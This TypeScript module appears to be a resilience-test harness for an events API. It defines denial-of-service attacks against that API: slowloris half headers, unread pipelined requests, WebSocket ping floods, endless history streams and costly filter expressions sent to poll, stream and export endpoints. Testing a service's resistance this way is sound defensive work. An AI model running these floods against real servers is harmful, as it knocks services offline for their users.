import { connect, type Socket } from "node:net";

/** Where a server is, and what an attacker has. */
export interface Target {
  readonly base: string;
  /** Of scope read. */
  readonly token: string;
  readonly room: number;
  /** A large file of the dashboard. */
  readonly asset: string;
}

/** Something that a hostile client does until its process ends. Resolves when all of it is under way. */
export type Attack = (target: Target, share: number) => Promise<void>;

/** 941 characters, most of whose parts have no value for an event without a text. */
const NESTED = `[${"9,".repeat(389)}9].exists(w, ${Array.from({ length: 9 }, () => "size(text)==w").join("||")})`;
/** What somebody might well write. */
const WORDS = `[${Array.from({ length: 380 }, (_, index) => `"k${index}"`).join(",")}].exists(w, text.contains(w))`;
/** The longest search in the longest texts. */
const SEARCH = `${`[${"1,".repeat(20)}1]`}.all(x, !text.contains("${"a".repeat(700)}b"))`;

/** On so many connections of which nothing is ever read. @param begin is given each once it is open */
function sockets(count: number, begin: (socket: Socket, target: Target) => void): Attack {
  return async (target, share) => {
    const { hostname, port } = new URL(target.base);
    const one = () =>
      new Promise<void>((resolve) => {
        const socket = connect(Number(port), hostname, () => {
          begin(socket, target);
          resolve();
        });
        // One that is refused has been dealt with.
        socket.pause().on("error", () => resolve());
      });
    await Promise.all(Array.from({ length: Math.ceil(count * share) }, one));
  };
}

const get = (path: string, token?: string) =>
  `GET ${path} HTTP/1.1\r\nhost: x\r\n${token === undefined ? "" : `authorization: Bearer ${token}\r\n`}\r\n`;

const filtered = (filter: string, query = "&limit=2000&after=0") => `/events?${new URLSearchParams({ filter, types: "*" })}${query}`;

/** Asks again and again, on so many connections, and reads. */
function asking(count: number, ask: (target: Target) => string): Attack {
  return async (target, share) => {
    const headers = { authorization: `Bearer ${target.token}` };
    const loop = async (answered: () => void) => {
      for (;;) {
        const answer = await fetch(target.base + ask(target), { headers }).catch(() => null);
        answered();
        await answer?.arrayBuffer().catch(() => {});
        if (answer?.ok !== true) await new Promise((resolve) => setTimeout(resolve, 20));
      }
    };
    // When the first is answered all have asked.
    await new Promise<void>((resolve) => {
      for (let n = 0; n < Math.ceil(count * share); n++) void loop(resolve);
    });
  };
}

/** A masked frame of a WebSocket client: a ping of 125 bytes. */
const PINGS = Buffer.concat(Array.from({ length: 400 }, () => Buffer.concat([Buffer.from([0x89, 0xfd, 0, 0, 0, 0]), Buffer.alloc(125)])));

/** Every attack, by what it does. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "25 connections pipeline 1,650 requests for /openapi.json and never read": sockets(25, (socket) =>
    socket.write(get("/openapi.json").repeat(1_650)),
  ),
  "150 connections pipeline 20,000 requests for /healthz": sockets(150, (socket) => socket.resume().write(get("/healthz").repeat(20_000))),
  "one connection pipelines 550 polls": sockets(1, (socket, target) =>
    socket.write(get(`/v1/rooms/${target.room}/events?limit=2000`, target.token).repeat(550)),
  ),
  "200 connections ask for 2,000 events each and never read": sockets(200, (socket, target) =>
    socket.write(get(`/v1/rooms/${target.room}/events?limit=2000`, target.token)),
  ),
  "2,000 connections ask for the dashboard's largest file and never read": sockets(2_000, (socket, target) =>
    socket.write(get(target.asset).repeat(8)),
  ),
  "2,000 connections send half a header": sockets(2_000, (socket) => socket.write(`GET / HTTP/1.1\r\nx: ${"y".repeat(8_000)}`)),
  "20 WebSockets send pings and never read": sockets(20, (socket, target) => {
    socket.write(
      `GET /v1/ws?token=${target.token} HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
    );
    const send = () => {
      while (!socket.destroyed && socket.write(PINGS));
    };
    socket.on("drain", send);
    setTimeout(send, 200);
  }),
  "200 streams from the oldest event on, never read": sockets(200, (socket, target) =>
    socket.write(get(`/v1/events/stream?rooms=${target.room}&after=0`, target.token)),
  ),
  "10 polls at a time with 941 characters of exists": asking(10, ({ room }) => `/v1/rooms/${room}${filtered(NESTED)}`),
  "10 polls at a time for 380 words": asking(10, ({ room }) => `/v1/rooms/${room}${filtered(WORDS)}`),
  "10 polls at a time with long searches": asking(10, ({ room }) => `/v1/rooms/${room}${filtered(SEARCH)}`),
  "100 polls at a time for 2,000 events": asking(100, ({ room }) => `/v1/rooms/${room}/events?limit=2000&types=*`),
  "20 streams of the past with 941 characters of exists": asking(
    20,
    ({ room }) => `/v1/events/stream?rooms=${room}&after=0&types=*&${new URLSearchParams({ filter: NESTED })}`,
  ),
  "8 exports with 941 characters of exists": asking(
    8,
    ({ room }) => `/v1/rooms/${room}/export?format=jsonl&${new URLSearchParams({ filter: NESTED })}`,
  ),
};
